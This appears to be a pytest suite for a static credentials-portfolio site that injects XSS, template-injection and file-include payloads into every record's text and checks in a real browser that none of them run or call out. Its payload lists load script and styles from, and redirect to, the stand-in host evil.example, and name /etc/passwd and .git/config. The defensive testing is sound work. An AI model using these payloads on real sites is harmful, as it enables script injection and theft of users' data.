"""Attacks in every text of every record, made from the models, in a real browser.

The fields come from the models, so a field that is added tomorrow is attacked
tomorrow. Each text gets another attack in turn; each attack calls home, writes
on the console or opens a dialog if any of it is ever run.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from playwright.sync_api import Browser
from test_hostile_text import as_yaml, is_free_text

from chromium import served
from credfolio.checking.check import check_project
from credfolio.checking.rules.record_text import Text, records, texts
from credfolio.findings.report import render_findings
from credfolio.records.model import Record
from credfolio.records.model.kinds import KINDS, PRIVATE_TOPS
from credfolio.records.registry import Registry
from demo import SITE_PATH, TODAY, WITHOUT_RULES, build_once, small_project
from html_tree import load_page, page_addresses
from raw_host import preview_of, show

HOME = "evil.example"
RAW = "https://raw.example/{repo}/{commit}/{file}"
LINE_ATTACKS = (
    "<script>ran()</script>",
    "\"'><img src=x onerror=ran()>",
    "<svg onload=ran()><animate onbegin=ran() attributeName=x></svg>",
    "</title></textarea></style></script><script src=//evil.example/a.js></script>",
    "javascript:ran()",
    "{{ ran() }}{% include '/etc/passwd' %}${ran()}@@credfolio:body@@",
    "--><iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "'-ran()-' onfocus=ran() autofocus tabindex=0 x='",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "--8<-- .git/config",
)
PROSE_ATTACKS = (
    *LINE_ATTACKS,
    "[a](javascript:ran()) [b](jav&#x09;ascript:ran()) [c](data:text/html,<script>ran()</script>)",
    '![p](https://evil.example/p.png) ![q](x" onerror="ran())',
    '[r]: javascript:ran()\n\n[r] <javascript:ran()> <https://evil.example/"onclick=ran()//>',
    "<details open ontoggle=ran()><form action=//evil.example><button>x</button></form>",
    "| a |\n|---|\n| <script>ran()</script> |\n\n```html onload=ran()\n<script>ran()</script>\n```",
    "text{: onclick=ran() } <math><mtext><style><img src=x onerror=ran()></style></mtext></math>",
    "<link rel=stylesheet href=//evil.example/a.css><style>@import '//evil.example/b.css'</style>",
)
WATCH = """
window.ran = () => { window.hasRun = true; console.error('ran'); };
addEventListener('securitypolicyviolation',
  e => console.error('tried: ' + e.violatedDirective + ' ' + e.blockedURI));
"""


# A badge that a preview draws is an SVG behind an image's address: nothing in it can run.
ALIVE = """
[...document.querySelectorAll('.cf-preview *, .cf-proposal__problems *, .cf-proposal__changes *')]
  .filter(e => e.tagName !== 'IMG' || [...e.attributes].some(a => a.name.startsWith('on'))
    || !e.getAttribute('src').startsWith('data:image/svg+xml,'))
  .filter(e => ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'BASE', 'META', 'LINK', 'STYLE', 'FORM',
      'MATH', 'ANIMATE', 'INPUT'].includes(e.tagName.toUpperCase())
    || [...e.attributes].some(a => a.name.startsWith('on') || a.name === 'srcdoc'
      || (['href', 'src', 'action'].includes(a.name) && !/^(https?:|#|\\.\\.?\\/)/.test(a.value)))
    || (e.tagName === 'IMG' && !e.getAttribute('src').startsWith('../')))
  .map(e => e.outerHTML.slice(0, 200))
"""


def put(data: Any, pointer: tuple[str | int, ...], text: str) -> None:
    for step in pointer[:-1]:
        data = data[step]
    data[pointer[-1]] = text


def attackable(record: Record) -> Iterator[Text]:
    """The texts that an author words; ids, links and words of a list are not read as text."""
    for text in texts(record):
        if text.kind in ("line", "prose"):
            yield text


def attack(registry: Registry, folder: Path) -> Path:
    """The demonstration, with another attack in each of its texts."""
    small_project(folder)
    settings = yaml.safe_load((folder / "mkdocs.yml").read_text(encoding="utf-8"))
    settings["extra"] = {"credfolio": {"forge": "https://forge.example/o/r", "raw": RAW}}
    (folder / "mkdocs.yml").write_text(yaml.safe_dump(settings), encoding="utf-8")
    lines, proses = itertools.cycle(LINE_ATTACKS), itertools.cycle(PROSE_ATTACKS)
    for path, record in records(registry):
        data = as_yaml(record)
        data.pop("educator", None)
        for text in attackable(record):
            at = tuple("from" if step == "starts" else step for step in text.pointer)
            if at[-1] in ("assessor", "approved_by", "name", "display_name", "code", "category"):
                continue  # others refer to it by its words
            if text.kind == "prose":
                put(data, at, f"{text.text}\n\n{next(proses)}")
            else:
                put(data, at, f"{text.text} {next(lines)}"[:500])
        file = folder / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(yaml.safe_dump(data, allow_unicode=True, width=90), encoding="utf-8")
    return folder


@pytest.fixture(scope="session")
def attacked(demo: Registry, shared_folder: Path) -> Path:
    # The check refuses most of it; here the pages have to hold without its help.
    place = shared_folder / "attacked-by-model"
    return build_once(place, lambda folder: attack(demo, folder), WITHOUT_RULES)


def test_every_kind_of_record_that_has_texts_is_attacked(demo: Registry) -> None:
    attacked = {type(record) for _, record in records(demo) if any(attackable(record))}
    worded = {
        kind.model
        for kind in KINDS
        # No page shows what only a private repository has.
        if kind.model and kind.schema and kind.pattern.partition("/")[0] not in PRIVATE_TOPS
        if any(is_free_text(field) for field in kind.model.model_fields.values())
    }
    assert worded <= attacked


def test_no_page_of_the_attacked_site_has_anything_alive(attacked: Path) -> None:
    for address in page_addresses(attacked):
        page = load_page(attacked, address)
        assert page.faults == (), address
        for element in page.root.all():
            assert not any(name.startswith("on") for name in element.attributes), address
            for name in ("href", "src", "action", "srcdoc", "data", "formaction"):
                value = element.get(name).lower().replace("\t", "")
                assert not value.startswith(("javascript:", "data:text", "vbscript:")), address
                if element.name != "a":
                    assert HOME not in value, address
            assert element.name not in ("base", "iframe", "object", "embed", "math"), address
            if element.name == "meta" and element.get("http-equiv"):
                assert element["http-equiv"] in ("Content-Security-Policy", "refresh"), address
                assert "evil" not in element["content"], address
        assert "[core]" not in page.source, address
        assert "root:x:0" not in page.source, address


def pages_of_each_kind(site: Path) -> list[str]:
    """Some pages of each kind: those with most text, where most attacks stand."""
    kinds: dict[str, list[tuple[int, str]]] = {}
    for address in page_addresses(site):
        page = load_page(site, address)
        if page.leads_on:
            continue
        kind = next((e["class"] for e in page.root.all("div") if "cf-record" in e.get("class")), "")
        kinds.setdefault(kind, []).append((len(page.source), address))
    return [address for rows in kinds.values() for _, address in sorted(rows)[-2:]]


@pytest.mark.browser
def test_nothing_of_the_attacks_runs_asks_or_shows_itself(attacked: Path, browser: Browser) -> None:
    happened: list[str] = []
    context = browser.new_context()
    context.add_init_script(WATCH)
    page = context.new_page()
    page.on("dialog", lambda dialog: happened.append(dialog.message))
    page.on("dialog", lambda dialog: dialog.dismiss())
    page.on("console", lambda message: happened.append(message.text))
    page.on("pageerror", lambda error: happened.append(str(error)))
    page.on("popup", lambda popup: happened.append(f"opened {popup.url}"))
    with served(attacked, SITE_PATH) as root:
        page.on(
            "request",
            lambda request: (
                None
                if request.url.startswith((root, "data:", "blob:"))
                else happened.append(f"asked {request.url}")
            ),
        )
        for address in pages_of_each_kind(attacked):
            page.goto(root + address)
            page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true })")
            assert page.evaluate("window.hasRun") is None, address
            assert page.url == root + address
        assert context.cookies() == []
    context.close()
    assert happened == []


@pytest.mark.browser
def test_nothing_of_the_attacks_runs_in_a_preview(
    attacked: Path, shared_folder: Path, browser: Browser
) -> None:
    project = shared_folder / "attacked-by-model" / "project"
    kinds = ("catalog/*/*.yml", "portfolios/*/profile.yml", "portfolios/*/awards/*.yml")
    files = [
        path.relative_to(project).as_posix()
        for kind in kinds
        for path in sorted(project.glob(kind), key=lambda path: path.stat().st_size)[-12:]
        if path.name != "issuer.yml" and path.parent.name not in ("frameworks", "jurisdictions")
    ]
    happened: list[str] = []
    context = browser.new_context()
    context.add_init_script(WATCH)
    page = context.new_page()
    page.on("dialog", lambda dialog: happened.append(dialog.message))
    page.on("dialog", lambda dialog: dialog.dismiss())
    page.on("console", lambda message: happened.append(message.text))
    page.on("pageerror", lambda error: happened.append(str(error)))
    page.on("popup", lambda popup: happened.append(f"opened {popup.url}"))
    page.route(
        "https://raw.example/**",
        lambda route: route.fulfill(
            body=(project / route.request.url.split("/", 6)[-1]).read_bytes(),
            headers={"Access-Control-Allow-Origin": "*"},
        ),
    )
    with served(attacked, SITE_PATH) as root:
        page.on(
            "request",
            lambda request: (
                None
                if request.url.startswith((root, "data:", "blob:", "https://raw.example/"))
                else happened.append(f"asked {request.url}")
            ),
        )
        show(page, preview_of(root, *files))
        page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true })")
        assert page.locator(".cf-preview__sheet").count() == len(files) > 25
        assert "<script>ran()</script>" in page.locator("[data-files]").inner_text()
        # Nothing that a record says is more than text, a link or plain markup.
        alive = page.evaluate(ALIVE)
        assert alive == []
        assert page.evaluate("window.hasRun") is None
        # The attacks do nothing when the page is touched, either.
        for link in page.locator(".cf-preview__sheet a[href^='https://evil']").all()[:3]:
            link.hover()
        page.keyboard.press("Tab")
        assert page.evaluate("window.hasRun") is None
    context.close()
    assert happened == []


def test_the_check_answers_every_attack_with_findings(demo: Registry, tmp_path: Path) -> None:
    project = attack(demo, tmp_path)
    checked = check_project(project, TODAY, jobs=1)
    report = render_findings(checked.findings, checked.files, "github")
    assert "\n::" in report
    for line in report.splitlines():
        assert line.startswith(("::error ", "::notice ", "checked ")), line
